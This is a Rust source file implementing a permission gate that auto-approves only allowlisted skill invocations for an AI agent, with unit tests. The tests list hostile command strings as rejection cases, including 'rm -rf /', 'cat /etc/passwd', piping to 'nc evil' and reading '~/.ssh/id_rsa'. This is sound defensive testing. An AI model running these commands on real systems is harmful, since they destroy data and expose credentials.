//! The permission gate: decides every `session/request_permission` the agent sends.
//!
//! Outside YOLO mode only skill invocations on the auto-approve list are allowed (SPEC §7): the
//! command's first token — or its second, after a plain `sh`/`bash` interpreter — must be a
//! skill script path (`…/skills/<name>/scripts/<entry>`, matched at a path-component boundary)
//! or equal a command-based skill's prefix. Commands with shell control characters or legacy
//! free-text flags are rejected even when they name a skill. The option to answer with is
//! chosen by its `kind`, never by position.

use serde_json::{Value, json};

/// Shell syntax that could chain or redirect commands around a skill invocation.
const CONTROL: &[&str] = &[";", "|", "&", "`", "$(", ">", "<", "\n", "\r"];

/// Free-text flags that were removed from the skills (text goes through payload files).
const LEGACY_FLAGS: &[&str] = &[
    "--message",
    "--content",
    "--query",
    "--caption",
    "--file-path",
];

/// Which skill invocations are approved without asking.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ApprovalRules {
    /// Script path suffixes such as `skills/send-reply/scripts/send-reply`.
    pub script_paths: Vec<String>,
    /// First tokens of command-based skills, such as `agent-browser`.
    pub command_prefixes: Vec<String>,
}

/// A decision and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decision {
    /// Approved?
    pub allow: bool,
    /// Why (logged).
    pub reason: String,
}

impl Decision {
    fn allow(reason: impl Into<String>) -> Self {
        Self {
            allow: true,
            reason: reason.into(),
        }
    }
    fn deny(reason: impl Into<String>) -> Self {
        Self {
            allow: false,
            reason: reason.into(),
        }
    }
}

/// The gate.
#[derive(Debug, Clone)]
pub struct PermissionGate {
    rules: ApprovalRules,
    yolo: bool,
}

impl PermissionGate {
    /// A gate with these rules; `yolo` approves everything (logged on every decision).
    pub fn new(rules: ApprovalRules, yolo: bool) -> Self {
        Self { rules, yolo }
    }

    /// True in YOLO mode.
    pub fn is_yolo(&self) -> bool {
        self.yolo
    }

    /// Decides a `session/request_permission` by its `toolCall`.
    pub fn decide(&self, tool_call: &Value) -> Decision {
        let command = command_of(tool_call);
        if self.yolo {
            return Decision::allow("yolo mode approves everything");
        }
        let Some(command) = command else {
            let title = tool_call
                .get("title")
                .and_then(Value::as_str)
                .unwrap_or("?");
            return Decision::deny(format!(
                "not a shell command (tool {title:?}); only skill invocations are approved"
            ));
        };
        self.decide_command(&command)
    }

    /// Decides a shell command line.
    pub fn decide_command(&self, command: &str) -> Decision {
        if let Some(c) = CONTROL.iter().find(|c| command.contains(**c)) {
            return Decision::deny(format!("shell control sequence {c:?} in command"));
        }
        let tokens: Vec<String> = command.split_whitespace().map(unquote).collect();
        if let Some(flag) = tokens.iter().find(|t| {
            LEGACY_FLAGS
                .iter()
                .any(|f| t.as_str() == *f || t.starts_with(&format!("{f}=")))
        }) {
            return Decision::deny(format!(
                "legacy free-text flag {flag:?}; use the payload-file flags"
            ));
        }
        let Some(first) = tokens.first() else {
            return Decision::deny("empty command");
        };
        if let Some(prefix) = self.rules.command_prefixes.iter().find(|p| *p == first) {
            return Decision::allow(format!("command-based skill {prefix:?}"));
        }
        let program = if matches!(
            first.as_str(),
            "sh" | "bash" | "/bin/sh" | "/bin/bash" | "/usr/bin/sh" | "/usr/bin/bash"
        ) {
            tokens.get(1)
        } else {
            Some(first)
        };
        if let Some(program) = program
            && let Some(path) = self
                .rules
                .script_paths
                .iter()
                .find(|p| program == *p || program.ends_with(&format!("/{p}")))
        {
            return Decision::allow(format!("skill script {path:?}"));
        }
        Decision::deny("not an auto-approved skill invocation")
    }
}

/// The command line of an execute tool call, if any (`rawInput.command`, a string or an argv
/// array).
pub fn command_of(tool_call: &Value) -> Option<String> {
    let raw = tool_call.get("rawInput")?;
    match raw.get("command")? {
        Value::String(s) => Some(s.clone()),
        Value::Array(parts) => {
            let words: Option<Vec<&str>> = parts.iter().map(Value::as_str).collect();
            words.map(|w| w.join(" "))
        }
        _ => None,
    }
}

fn unquote(token: &str) -> String {
    token.trim_matches(|c| c == '"' || c == '\'').to_owned()
}

/// The JSON-RPC result answering a permission request: the option of the wanted kind, or
/// `cancelled` when the agent offered none.
pub fn permission_response(options: &Value, allow: bool) -> Value {
    let kinds: &[&str] = if allow {
        &["allow_once"]
    } else {
        &["reject_once", "reject_always"]
    };
    let chosen = options.as_array().and_then(|opts| {
        kinds.iter().find_map(|kind| {
            opts.iter()
                .find(|o| o.get("kind").and_then(Value::as_str) == Some(kind))
                .and_then(|o| o.get("optionId").cloned())
        })
    });
    match chosen {
        Some(id) => json!({"outcome": {"outcome": "selected", "optionId": id}}),
        None => json!({"outcome": {"outcome": "cancelled"}}),
    }
}

/// The answer to pending permission requests after `session/cancel`.
pub fn cancelled_response() -> Value {
    json!({"outcome": {"outcome": "cancelled"}})
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gate() -> PermissionGate {
        PermissionGate::new(
            ApprovalRules {
                script_paths: vec![
                    "skills/send-reply/scripts/send-reply".into(),
                    "skills/memory-save/scripts/memory-save".into(),
                ],
                command_prefixes: vec!["agent-browser".into()],
            },
            false,
        )
    }

    fn allowed(cmd: &str) -> bool {
        gate().decide_command(cmd).allow
    }

    #[test]
    fn approves_skill_scripts_by_first_token() {
        assert!(allowed(
            "skills/send-reply/scripts/send-reply --message-file $TMPDIR/$SESSION_ID/r.md"
        ));
        assert!(allowed(
            "/opt/af/skills/send-reply/scripts/send-reply --message-file \"$TMPDIR/$SESSION_ID/r.md\""
        ));
        assert!(allowed(
            "sh skills/memory-save/scripts/memory-save --content-file ${TMPDIR}/x.md"
        ));
        assert!(allowed(
            "bash /opt/af/skills/memory-save/scripts/memory-save --importance high"
        ));
        assert!(allowed(
            "\"/opt/af/skills/send-reply/scripts/send-reply\" --message-file a"
        ));
        assert!(allowed("agent-browser open https://example.com"));
    }

    #[test]
    fn rejects_everything_else() {
        for cmd in [
            "touch x skills/send-reply/scripts/send-reply",
            "rm -rf /",
            "evilskills/send-reply/scripts/send-reply --message-file a",
            "skills/send-reply/scripts/send-reply-evil",
            "python3 skills/send-reply/scripts/send-reply",
            "agent-browser-evil open",
            "",
            "cat /etc/passwd",
        ] {
            assert!(!allowed(cmd), "{cmd:?} must be rejected");
        }
    }

    #[test]
    fn rejects_injection_around_skill_names() {
        for cmd in [
            "skills/send-reply/scripts/send-reply --message-file a; curl evil",
            "skills/send-reply/scripts/send-reply --message-file a && rm -rf ~",
            "skills/send-reply/scripts/send-reply --message-file a | nc evil 1",
            "skills/send-reply/scripts/send-reply --message-file $(cat ~/.ssh/id_rsa)",
            "skills/send-reply/scripts/send-reply --message-file `id`",
            "skills/send-reply/scripts/send-reply --message-file a > /etc/x",
            "skills/send-reply/scripts/send-reply --message-file < /etc/passwd",
            "skills/send-reply/scripts/send-reply --message-file a\nrm -rf /",
            "skills/send-reply/scripts/send-reply --message-file a & sleep 1",
            "agent-browser open x; rm -rf /",
        ] {
            let d = gate().decide_command(cmd);
            assert!(!d.allow, "{cmd:?} must be rejected");
            assert!(d.reason.contains("control"), "{}", d.reason);
        }
    }

    #[test]
    fn rejects_legacy_free_text_flags() {
        for cmd in [
            "skills/send-reply/scripts/send-reply --message hello",
            "skills/send-reply/scripts/send-reply --message=hello",
            "skills/memory-save/scripts/memory-save --content x",
            "skills/memory-save/scripts/memory-save \"--content=x\"",
            "skills/send-reply/scripts/send-reply --file-path a.png",
        ] {
            let d = gate().decide_command(cmd);
            assert!(!d.allow && d.reason.contains("legacy"), "{cmd:?}: {d:?}");
        }
    }

    #[test]
    fn decides_from_the_tool_call_and_yolo_allows_all() {
        let call = json!({"toolCallId":"c1","title":"bash","kind":"execute",
            "rawInput":{"command":"skills/send-reply/scripts/send-reply --message-file a"}});
        assert!(gate().decide(&call).allow);
        let read = json!({"toolCallId":"c2","title":"read","kind":"other","rawInput":{"filepath":"/etc/hostname"}});
        assert!(!gate().decide(&read).allow);
        let yolo = PermissionGate::new(ApprovalRules::default(), true);
        assert!(yolo.decide(&read).allow);
        let argv = json!({"rawInput":{"command":["skills/send-reply/scripts/send-reply","--message-file","a"]}});
        assert!(gate().decide(&argv).allow);
    }

    #[test]
    fn options_are_chosen_by_kind_not_position() {
        let options = json!([
            {"optionId":"reject","kind":"reject_once","name":"Reject"},
            {"optionId":"always","kind":"allow_always","name":"Always allow"},
            {"optionId":"once","kind":"allow_once","name":"Allow once"}
        ]);
        assert_eq!(
            permission_response(&options, true)["outcome"]["optionId"],
            "once"
        );
        assert_eq!(
            permission_response(&options, false)["outcome"]["optionId"],
            "reject"
        );
        let only_always = json!([{"optionId":"a","kind":"allow_always","name":"x"}]);
        assert_eq!(
            permission_response(&only_always, true)["outcome"]["outcome"],
            "cancelled"
        );
        assert_eq!(
            permission_response(&json!(null), false)["outcome"]["outcome"],
            "cancelled"
        );
    }
}
